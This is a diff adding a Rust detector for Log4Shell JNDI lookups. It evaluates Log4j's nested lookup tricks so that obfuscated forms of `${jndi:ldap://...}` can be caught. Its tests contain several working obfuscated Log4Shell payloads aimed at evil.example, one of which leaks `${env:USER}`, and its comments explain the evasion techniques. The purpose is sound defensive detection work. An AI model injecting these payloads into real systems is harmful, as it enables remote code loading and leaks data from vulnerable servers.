@@ -1,0 +1,194 @@
+//! Log4Shell: a `${jndi:<protocol>:...}` lookup, found after evaluating Log4j's other lookups the
+//! way Log4j itself does, innermost first: `${lower:j}` → `j`, `${upper:n}` → `N`, `${::-j}` and
+//! `${env:NOPE:-j}` → their default `j`, `${date:'j'}` → `j`. Attackers spell every character
+//! of `jndi:ldap` with such a lookup, nested to any depth, so a literal or a regex cannot follow;
+//! a small evaluator can. Log4j treats lookup prefixes and URL schemes case-insensitively, so
+//! the check does too.
+//!
+//! The data pool labels JNDI as `deserialization` (the lookup loads a remote Java class), so the
+//! reason is `deserialization:jndi-lookup`. Whoever logs the value with a vulnerable Log4j is hit,
+//! even when the value is prose in a chat message, so the finding is level 1 in every place.
+//!
+//! Linear: each byte is pushed into at most one open lookup buffer; a closed lookup hands its
+//! value (at most [`KEEP`] bytes) to its parent, and nesting stops at [`MAX_DEPTH`].
+
+use crate::{Check, Finding, Input};
+
+pub struct Jndi;
+
+/// Bytes of each lookup's text kept: the prefix decides (`jndi:` + protocol + `://`), and a
+/// default (`:-j`) is short. Longer text is dropped, braces still counted.
+const KEEP: usize = 96;
+/// Deeper nesting is read as literal text (Log4j itself recurses without bound; attacks use a
+/// few levels).
+const MAX_DEPTH: usize = 32;
+
+/// JNDI service providers an attacker can make a JVM load a class or reach out from.
+const PROTOCOLS: &[&str] = &["ldaps", "ldap", "rmi", "dns", "iiop", "corba", "nds", "nis", "https", "http"];
+
+impl Check for Jndi {
+    fn detector(&self) -> &'static str {
+        "deserialization"
+    }
+
+    fn inspect(&self, input: &Input<'_>) -> Option<Finding> {
+        if !input.bytes.all(b"${:") {
+            return None;
+        }
+        let level = scan(input.text.as_bytes())?;
+        (level <= input.sensitivity).then_some(Finding { reason: "deserialization:jndi-lookup", score: 0.95, level })
+    }
+}
+
+/// The lowest level of a JNDI lookup in `text`: 1 for a known protocol, 2 for `jndi:` followed
+/// by something else (a protocol spelled by a lookup Log4j would resolve from the environment).
+fn scan(text: &[u8]) -> Option<u8> {
+    let mut stack: Vec<Vec<u8>> = Vec::new();
+    let mut best: Option<u8> = None;
+    let mut i = 0;
+    while i < text.len() {
+        let b = text[i];
+        if b == b'$' && text.get(i + 1) == Some(&b'{') && stack.len() < MAX_DEPTH {
+            stack.push(Vec::new());
+            i += 2;
+            continue;
+        }
+        if b == b'}' {
+            if let Some(body) = stack.pop() {
+                if let Some(level) = jndi_level(&body) {
+                    best = Some(best.map_or(level, |b: u8| b.min(level)));
+                    if level == 1 {
+                        return best;
+                    }
+                }
+                if let Some(parent) = stack.last_mut() {
+                    evaluate(&body, parent);
+                }
+                i += 1;
+                continue;
+            }
+        }
+        if let Some(top) = stack.last_mut() {
+            if top.len() < KEEP {
+                top.push(b);
+            }
+        }
+        i += 1;
+    }
+    // An unclosed lookup (a truncated field, or one whose closing brace was cut by the
+    // attacker's own encoding) still shows its intent.
+    for body in &stack {
+        if let Some(level) = jndi_level(body) {
+            best = Some(best.map_or(level, |b: u8| b.min(level)));
+        }
+    }
+    best
+}
+
+/// `Some(level)` when a lookup's evaluated text is a JNDI lookup.
+fn jndi_level(body: &[u8]) -> Option<u8> {
+    let body = trim_start(body);
+    if body.len() < 5 || !body[..5].eq_ignore_ascii_case(b"jndi:") {
+        return None;
+    }
+    let rest = trim_start(&body[5..]);
+    let known = PROTOCOLS.iter().any(|p| {
+        rest.len() > p.len() && rest[..p.len()].eq_ignore_ascii_case(p.as_bytes()) && rest[p.len()] == b':'
+    });
+    Some(if known { 1 } else { 2 })
+}
+
+fn trim_start(text: &[u8]) -> &[u8] {
+    let skip = text.iter().take_while(|b| b.is_ascii_whitespace()).count();
+    &text[skip..]
+}
+
+/// Appends what Log4j substitutes for the lookup `${body}` to `out` (at most [`KEEP`] bytes
+/// kept): a case lookup's converted argument, a date pattern's quoted literals, an unknown
+/// variable's `:-` default; any other lookup stays as written, so its text cannot spell
+/// anything.
+fn evaluate(body: &[u8], out: &mut Vec<u8>) {
+    let room = KEEP.saturating_sub(out.len());
+    let (name, default) = match find(body, b":-") {
+        Some(at) => (&body[..at], Some(&body[at + 2..])),
+        None => (body, None),
+    };
+    let (prefix, arg) = match name.iter().position(|&b| b == b':') {
+        Some(at) => (&name[..at], &name[at + 1..]),
+        None => (&[][..], name),
+    };
+    // Log4j splits off the `:-` default before it resolves the lookup, so `${lower:J:-x}` is `j`.
+    let value: Vec<u8> = if prefix.eq_ignore_ascii_case(b"lower") {
+        case_map(arg, false)
+    } else if prefix.eq_ignore_ascii_case(b"upper") {
+        case_map(arg, true)
+    } else if prefix.eq_ignore_ascii_case(b"date") {
+        quoted_literals(arg)
+    } else if let Some(default) = default {
+        // `${::-j}`, `${env:NOPE:-j}`, `${sys:x:-n}`, `${foo:-j}`: the variable is unset on the
+        // attacked host (the attacker picks a name that is), so Log4j yields the default.
+        default.to_vec()
+    } else {
+        let mut kept = b"${".to_vec();
+        kept.extend_from_slice(body);
+        kept.push(b'}');
+        kept
+    };
+    out.extend_from_slice(&value[..value.len().min(room)]);
+}
+
+/// Java's case mapping of the text; non-ASCII letters map as Java maps them (`ı` upper-cases to
+/// `I`, which attackers use to spell `JNDI` past a filter on ASCII `i`).
+fn case_map(text: &[u8], upper: bool) -> Vec<u8> {
+    let text = String::from_utf8_lossy(text);
+    let mapped = if upper { text.to_uppercase() } else { text.to_lowercase() };
+    mapped.into_bytes()
+}
+
+/// The literal text of a `SimpleDateFormat` pattern: what is inside single quotes.
+fn quoted_literals(pattern: &[u8]) -> Vec<u8> {
+    let mut out = Vec::new();
+    let mut inside = false;
+    for &b in pattern {
+        if b == b'\'' {
+            inside = !inside;
+        } else if inside {
+            out.push(b);
+        }
+    }
+    out
+}
+
+fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
+    hay.windows(needle.len()).position(|w| w == needle)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::scan;
+
+    fn level(text: &str) -> Option<u8> {
+        scan(text.as_bytes())
+    }
+
+    #[test]
+    fn plain_and_nested_lookups() {
+        assert_eq!(level("${jndi:ldap://evil.example/a}"), Some(1));
+        assert_eq!(level("${${lower:j}ndi:${lower:l}dap://evil.example/a}"), Some(1));
+        assert_eq!(level("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}"), Some(1));
+        assert_eq!(level("${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//x/a}"), Some(1));
+        assert_eq!(level("${${date:'j'}${date:'n'}di:dns://x}"), Some(1));
+        assert_eq!(level("${${upper:${lower:J}}NDI:LDAP://x}"), Some(1));
+        assert_eq!(level("${jnd${upper:ı}:ldap://x}"), Some(1));
+        assert_eq!(level("${${lower:${lower:${lower:j}}}ndi:iiop://x}"), Some(1));
+        assert_eq!(level("${jndi:ldap://x/${env:USER}"), Some(1));
+        assert_eq!(level("${jndi:${env:P}://x}"), Some(2));
+    }
+
+    #[test]
+    fn templates_pass() {
+        for text in ["${HOME}/bin", "echo ${name:-world}", "${user.name} jndi: notes", "Hello ${lower:World}", "}}}${", "${"] {
+            assert_eq!(level(text), None, "{text}");
+        }
+    }
+}
